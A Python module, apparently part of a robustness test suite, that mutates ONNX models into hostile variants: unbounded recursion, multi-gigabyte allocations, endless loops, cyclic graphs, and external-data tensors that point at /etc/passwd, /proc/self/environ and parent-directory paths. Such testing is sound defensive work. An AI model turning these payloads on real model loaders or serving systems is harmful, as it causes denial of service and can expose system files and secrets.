"""ONNX graphs that take memory, time or the stack, from ones that work.

Each attack takes a model of the encoder or of the step and a source of chance, and changes the
model so that the harm is done when it is loaded, or when it first runs.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

Attack = Callable[[onnx.ModelProto, random.Random], None]

FLOAT, INT64 = TensorProto.FLOAT, TensorProto.INT64
HUGE = (2**28, 2**31, 2**33, 2**40, 2**62)


def constant(name: str, values: Sequence[int] | Sequence[float], dtype: type) -> onnx.NodeProto:
    """A node that gives a vector."""
    tensor = numpy_helper.from_array(np.array(values, dtype), name)
    return helper.make_node("Constant", [], [name], value=tensor)


def poison(model: onnx.ModelProto, nodes: Sequence[onnx.NodeProto], result: str) -> None:
    """Let the first output of a graph depend on a float tensor, so that it is really computed."""
    output = model.graph.output[0].name
    for node in model.graph.node:
        node.output[:] = ["good" if name == output else name for name in node.output]
        node.input[:] = ["good" if name == output else name for name in node.input]
    end = [
        helper.make_node("ReduceMax", [result], ["poison_peak"], keepdims=0),
        helper.make_node("Sub", ["poison_peak", "poison_peak"], ["poison_nothing"]),
        helper.make_node("Add", ["good", "poison_nothing"], [output]),
    ]
    model.graph.node.extend([*nodes, *end])


def size_at_run(model: onnx.ModelProto, name: str, sizes: Sequence[int]) -> list[onnx.NodeProto]:
    """Nodes that give a shape which nobody knows before the graph runs."""
    first = model.graph.input[0].name
    return [
        helper.make_node("Shape", [first], ["poison_shape"], start=0, end=1),
        helper.make_node("Min", ["poison_shape", "poison_one"], ["poison_unit"]),
        constant("poison_one", [1], np.int64),
        constant("poison_sizes", sizes, np.int64),
        helper.make_node("Mul", ["poison_sizes", "poison_unit"], [name]),
    ]


def function_chain(model, chance):
    """Functions that call each other, deeper than the stack of whoever follows them."""
    depth = chance.choice([300, 3000, 12000])
    for i in range(depth):
        domain, name = ("", "Identity") if i == 0 else ("evil", f"f{i - 1}")
        model.functions.append(
            helper.make_function(
                "evil",
                f"f{i}",
                ["x"],
                ["y"],
                [helper.make_node(name, ["x"], ["y"], domain=domain)],
                [helper.make_opsetid("", 20), helper.make_opsetid("evil", 1)],
            )
        )
    model.opset_import.append(helper.make_opsetid("evil", 1))
    call = helper.make_node(f"f{depth - 1}", ["poison_x"], ["poison_y"], domain="evil")
    poison(model, [constant("poison_x", [1.0], np.float32), call], "poison_y")


def function_that_calls_itself(model, chance):
    body = [helper.make_node("f", ["x"], ["y"], domain="evil")]
    opsets = [helper.make_opsetid("", 20), helper.make_opsetid("evil", 1)]
    model.functions.append(helper.make_function("evil", "f", ["x"], ["y"], body, opsets))
    model.opset_import.append(helper.make_opsetid("evil", 1))
    call = helper.make_node("f", ["poison_x"], ["poison_y"], domain="evil")
    poison(model, [constant("poison_x", [1.0], np.float32), call], "poison_y")


def constant_of_shape_at_load(model, chance):
    """Folded while the graph is loaded: a hundred bytes that ask for gigabytes."""
    shape = constant("poison_shape", [chance.choice(HUGE)], np.int64)
    poison(model, [shape, helper.make_node("ConstantOfShape", ["poison_shape"], ["big"])], "big")


def constant_of_shape_at_run(model, chance):
    shape = size_at_run(model, "poison_at_run", [chance.choice(HUGE)])
    poison(model, [*shape, helper.make_node("ConstantOfShape", ["poison_at_run"], ["big"])], "big")


def expand(model, chance):
    sizes = [chance.choice(HUGE), chance.choice([1, 2**20, 2**31])]
    shape = size_at_run(model, "poison_at_run", sizes)
    grow = helper.make_node("Expand", ["poison_x", "poison_at_run"], ["big"])
    poison(model, [*shape, constant("poison_x", [1.0], np.float32), grow], "big")


def tile(model, chance):
    shape = size_at_run(model, "poison_at_run", [chance.choice(HUGE)])
    grow = helper.make_node("Tile", ["poison_x", "poison_at_run"], ["big"])
    poison(model, [*shape, constant("poison_x", [1.0, 2.0], np.float32), grow], "big")


def count_for_ever(model, chance):
    scalars = [
        helper.make_node("Constant", [], [name], value_float=value)
        for name, value in (("from", 0.0), ("to", 1e30), ("by", chance.choice([1.0, 1e-30, 0.0])))
    ]
    grow = helper.make_node("Range", ["from", "to", "by"], ["big"])
    poison(model, [*scalars, grow], "big")


def pad(model, chance):
    shape = size_at_run(model, "poison_at_run", [0, chance.choice([*HUGE, -5])])
    grow = helper.make_node("Pad", ["poison_x", "poison_at_run"], ["big"])
    poison(model, [*shape, constant("poison_x", [1.0], np.float32), grow], "big")


def loop_for_ever(model, chance):
    body = helper.make_graph(
        [
            helper.make_node("Identity", ["on"], ["on_out"]),
            helper.make_node("Add", ["x", "x"], ["x_out"]),
        ],
        "body",
        [
            helper.make_tensor_value_info("i", INT64, []),
            helper.make_tensor_value_info("on", TensorProto.BOOL, []),
            helper.make_tensor_value_info("x", FLOAT, [1]),
        ],
        [
            helper.make_tensor_value_info("on_out", TensorProto.BOOL, []),
            helper.make_tensor_value_info("x_out", FLOAT, [1]),
        ],
    )
    nodes = [
        helper.make_node("Constant", [], ["turns"], value_int=2**62),
        helper.make_node("Constant", [], ["on_in"], value=helper.make_tensor("", 9, [], [True])),
        constant("x_in", [1.0], np.float32),
        helper.make_node("Loop", ["turns", "on_in", "x_in"], ["looped"], body=body),
    ]
    poison(model, nodes, "looped")


def nest(model, chance):
    """Graphs within graphs: parsers of such messages recurse."""
    graph = helper.make_graph(
        [constant("y", [1.0], np.float32)],
        "g",
        [],
        [helper.make_tensor_value_info("y", FLOAT, [1])],
    )
    for _ in range(chance.choice([20, 45])):
        node = helper.make_node("If", ["poison_on"], ["y"], then_branch=graph, else_branch=graph)
        out = helper.make_tensor_value_info("y", FLOAT, [1])
        graph = helper.make_graph([node], "g", [], [out])
        if graph.ByteSize() > 1 << 20:
            break
    on = helper.make_node(
        "Constant", [], ["poison_on"], value=helper.make_tensor("", 9, [], [True])
    )
    branch = helper.make_node("If", ["poison_on"], ["nested"], then_branch=graph, else_branch=graph)
    poison(model, [on, branch], "nested")


def cycle(model, chance):
    length = chance.choice([1, 2, 1000])
    nodes = [
        helper.make_node("Identity", [f"c{(i + 1) % length}"], [f"c{i}"]) for i in range(length)
    ]
    poison(model, nodes, "c0")


def long_chain(model, chance):
    length = chance.choice([1000, 10_000])
    nodes = [helper.make_node("Sin", [f"n{i}"], [f"n{i + 1}"]) for i in range(length)]
    poison(model, [constant("n0", [1.0], np.float32), *nodes], f"n{length}")


def external_data(model, chance):
    """Tensors that are to be read from a file that is none of the bundle's, or from nowhere."""
    tensor = TensorProto(name="stolen", data_type=FLOAT, dims=[chance.choice([1, 16, 2**40])])
    tensor.data_location = TensorProto.EXTERNAL
    places = ("/etc/passwd", "../LICENSE", "LICENSE", "weights.safetensors", "/proc/self/environ")
    place = chance.choice(
        [*places, "/dev/zero", "/dev/stdin", "", "a" * 5000, "*/_ORT_MEM_ADDR_/*"]
    )
    numbers = ("0", "4", "-1", str(2**62), "x")
    for key, value in (("location", place), ("offset", chance.choice(numbers))):
        tensor.external_data.add(key=key, value=value)
    if chance.random() < 0.5:
        tensor.external_data.add(key="length", value=chance.choice(numbers))
    model.graph.initializer.append(tensor)
    poison(model, [helper.make_node("Identity", ["stolen"], ["mine"])], "mine")


GREEDY: tuple[Attack, ...] = (
    function_chain,
    function_that_calls_itself,
    constant_of_shape_at_load,
    constant_of_shape_at_run,
    expand,
    tile,
    count_for_ever,
    pad,
    loop_for_ever,
    nest,
    cycle,
    long_chain,
    external_data,
)
"""Attacks on memory, time and the stack."""
